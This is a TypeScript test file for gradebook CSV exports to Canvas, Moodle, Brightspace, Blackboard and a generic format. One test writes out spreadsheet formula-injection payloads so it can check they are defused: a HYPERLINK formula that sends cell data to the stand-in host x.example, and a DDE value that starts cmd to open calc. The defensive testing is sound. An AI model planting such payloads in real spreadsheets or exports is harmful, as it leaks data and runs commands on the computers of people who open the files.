/** Files for gradebooks, read by the rules of their systems, not by our code. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { defuse } from '../../src/domain/formula.ts';
import {
  canBeImported,
  GRADEBOOKS,
  type Gradebook,
  type GradebookColumn,
  type GradedUser,
  gradebookLines,
  leastMaximum,
} from '../../src/points/gradebook.ts';
import { runs } from '../model/runs.ts';
import { SYSTEMS, type System } from './gradebook-systems.ts';

const COLUMN: GradebookColumn = { title: 'Participation', value: 'score', most: 100, byLmsId: false };
const ADA: GradedUser = {
  ...{ id: 2n ** 53n + 1n, email: 'ada@example.org', firstName: 'Ada', lastName: 'Lovelace' },
  ...{ totalPoints: 47, participationScore: 40 },
};
const USERS = [ADA, { ...ADA, id: 2n, email: 'x@example.org', firstName: 'Xian, "X"', lastName: '' }];

/** Ids with leading zeros and of 20 digits, two users of one name, commas and quotes. */
const DIFFICULT: readonly GradedUser[] = (
  [
    ['0012', 'ona.fir@school.example', 'Fir, Jr.', 'Ona', 85],
    ['00A7', "o'dell@school.example", 'O"Dell', 'Ben', 0],
    ['007', 'ana@school.example', 'Núñez', 'Ana', 100],
    ['0070', 'ana2@school.example', 'Núñez', 'Ana', 1234],
    ['NULL', 'NA@school.example', 'NA', '-', 999_999],
    ['12345678901234567890', 'lim@school.example', 'Wu', '=Lim', 20],
  ] as const
).map(([lmsId, email, lastName, firstName, totalPoints], at) => ({
  ...{ id: BigInt(at), lmsId, email, lastName, firstName },
  ...{ totalPoints, participationScore: at },
}));

function textOf(...asked: Parameters<typeof gradebookLines>): string {
  return [...gradebookLines(...asked)].join('');
}

type Cells = readonly (readonly string[])[];

function cellsOf(gradebook: Gradebook, column = COLUMN, users: readonly GradedUser[] = USERS): Cells {
  return parse(textOf(gradebook, column, users), { relax_column_count: false });
}

/** Imports the file of users who all have an account, into a grade item with this maximum. */
function importOf(
  system: System,
  users: readonly GradedUser[],
  { maximum = 100, ...column }: Partial<GradebookColumn> & { readonly maximum?: number | undefined } = {},
) {
  const accounts = users.map((user) => ({ ...user, name: `${user.lastName}, ${user.firstName}` }));
  const text = textOf(system, { ...COLUMN, ...column }, users);
  const { item, most, grades } = SYSTEMS[system](text, { accounts, maximum });
  return { item, most, grades: accounts.map((account) => grades.get(account)) };
}

/** Only what consists of more than letters, digits and `._+@-` can be changed. */
function safeKey(text: string): string {
  return /^[\p{L}\p{N}._+@-]*$/u.test(text) ? text : defuse(text);
}

describe('the file for', () => {
  for (const system of Object.keys(SYSTEMS) as System[]) {
    it(`${system} is read by its rules, whatever the names`, () => {
      const text = fc.string({ unit: 'binary', maxLength: 8 }).map((one) => one.replaceAll('\0', ''));
      // Moodle trims, and Canvas rewrites digits with separators.
      const word = fc
        .string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 8 })
        .filter((one) => one.trim() === one && (/^\d+$/.test(one) || !/^[\d.,-]+%?$/.test(one)));
      const email = fc.emailAddress().filter((one) => safeKey(one) === one);
      const user = fc.record({
        ...{ id: fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }), email },
        ...{ firstName: text, lastName: text, lmsId: word },
        ...{ totalPoints: fc.nat(), participationScore: fc.nat(100) },
      });
      const distinct = fc
        .uniqueArray(user, { selector: ({ lmsId }) => lmsId })
        .filter((users) => new Set(users.map(({ email }) => email)).size === users.length);
      const property = fc.property(distinct, fc.boolean(), word, (all, byLmsId, title) => {
        const given = all.map(({ lmsId, ...rest }) => (byLmsId ? { ...rest, lmsId } : rest));
        const users: readonly GradedUser[] = given.filter((one) => canBeImported(system, one));
        const { item, most, grades } = importOf(system, users, { title, byLmsId });
        // Canvas has the login besides.
        const isKnown = ({ lmsId = '' }: GradedUser) => system === 'canvas' || safeKey(lmsId) === lmsId;
        assert.deepEqual(
          grades,
          users.map((one) => (isKnown(one) ? one.participationScore : undefined)),
        );
        assert.equal(item, title);
        assert.equal(most, system === 'canvas' ? 100 : undefined);
      });
      fc.assert(property, runs(50));
    });

    it(`${system} gives each user their own points, however similar names and ids are`, () => {
      const points = DIFFICULT.map(({ totalPoints }) => totalPoints);
      const maximum = leastMaximum(system, 'points', DIFFICULT);
      for (const byLmsId of [true, false]) {
        const users = byLmsId ? DIFFICULT : DIFFICULT.map((user) => ({ ...user, lmsId: undefined }));
        const column = { value: 'points', byLmsId, maximum } as const;
        assert.deepEqual(importOf(system, users, column).grades, points);
      }
    });
  }

  it('moodle and brightspace needs a maximum of the largest value', () => {
    const column = { value: 'points', byLmsId: true, maximum: 999_998 } as const;
    assert.throws(() => importOf('moodle', DIFFICULT, column), /larger than the allowed grade maximum/);
    assert.equal(importOf('brightspace', DIFFICULT, column).grades[4], 999_998);
    for (const gradebook of GRADEBOOKS) {
      const limits = gradebook === 'moodle' || gradebook === 'brightspace';
      assert.equal(leastMaximum(gradebook, 'points', DIFFICULT), limits ? 999_999 : undefined);
      assert.equal(leastMaximum(gradebook, 'score', DIFFICULT), limits ? 5 : undefined);
      assert.equal(leastMaximum(gradebook, 'score', []), undefined);
    }
  });

  it('moodle can have only users whom Moodle can know', () => {
    const known = ['ada@example.org', 'ada@invalid.example', "o'brien@example.org"];
    const unknowable = ['u-7@moodle.invalid', 'u@INVALID', '', '0', 'a,=1+1@example.org'];
    for (const [emails, isPossible] of [
      [known, true],
      [unknowable, false],
    ] as const) {
      for (const email of emails) assert.equal(canBeImported('moodle', { ...ADA, email }), isPossible, email);
      for (const gradebook of GRADEBOOKS.filter((one) => one !== 'moodle')) {
        for (const email of emails) assert.ok(canBeImported(gradebook, { ...ADA, email }));
      }
    }
    const byId = (lmsId: string) => canBeImported('moodle', { ...ADA, email: 'u-7@moodle.invalid', lmsId });
    assert.deepEqual(['7', '007', 'x.invalid', '0', ' 0', '', '=1 '].map(byId), [
      ...[true, true, true],
      ...[false, false, false, false],
    ]);
  });

  it('canvas has names, logins and the points possible', () => {
    assert.equal(
      textOf('canvas', COLUMN, USERS),
      [
        '"Student","ID","SIS User ID","SIS Login ID","Section","Participation"\r\n',
        '"    Points Possible","","","","","100"\r\n',
        '"Lovelace, Ada","","","ada@example.org","","40"\r\n',
        '"Xian, ""X""","","","x@example.org","","40"\r\n',
      ].join(''),
    );
  });

  it('has no names that a spreadsheet would run', () => {
    const users = [{ ...ADA, firstName: '=1+1', lastName: ' @SUM(A1)' }];
    for (const gradebook of ['canvas', 'blackboard', 'generic'] as const) {
      const cells = cellsOf(gradebook, COLUMN, users).at(-1) ?? [];
      assert.ok(cells.some((cell) => cell.startsWith("'")));
      assert.deepEqual(
        cells.filter((cell) => /^\s*[=+@-]/.test(cell)),
        [],
      );
    }
  });

  it('has no addresses and ids that a spreadsheet would run, and leaves all others as they are', () => {
    const keys = [
      ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
      ["-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"],
      ['a,=1+1', "a,'=1+1"],
      ...['+43-1-58801', '-5', '@ada', "o'brien@example.org", 'ada+=b@example.org'].map((key) => [key, key]),
      ...['@äda', '+４３', '-Ж'].map((key) => [key, key]),
    ] as const;
    for (const gradebook of GRADEBOOKS) {
      for (const [key, cell] of keys) {
        const byEmail = cellsOf(gradebook, COLUMN, [{ ...ADA, email: key }]);
        const byId = { ...ADA, email: 'x', lmsId: key };
        const known = cellsOf(gradebook, { ...COLUMN, byLmsId: true }, [byId]);
        for (const cells of [byEmail, known]) assert.ok(cells.at(-1)?.includes(cell), `${gradebook} ${key}`);
      }
    }
  });

  it('generic has both values, and all digits of ids', () => {
    const [header, row] = cellsOf('generic', { ...COLUMN, value: 'points' });
    assert.deepEqual(header?.slice(-2), ['total_points', 'participation_score']);
    assert.deepEqual(row, ['9007199254740993', 'ada@example.org', 'Ada', 'Lovelace', '47', '40']);
  });

  it('moodle has points if they are asked for', () => {
    assert.deepEqual(cellsOf('moodle', { ...COLUMN, value: 'points' })[1], ['ada@example.org', '47']);
  });
});
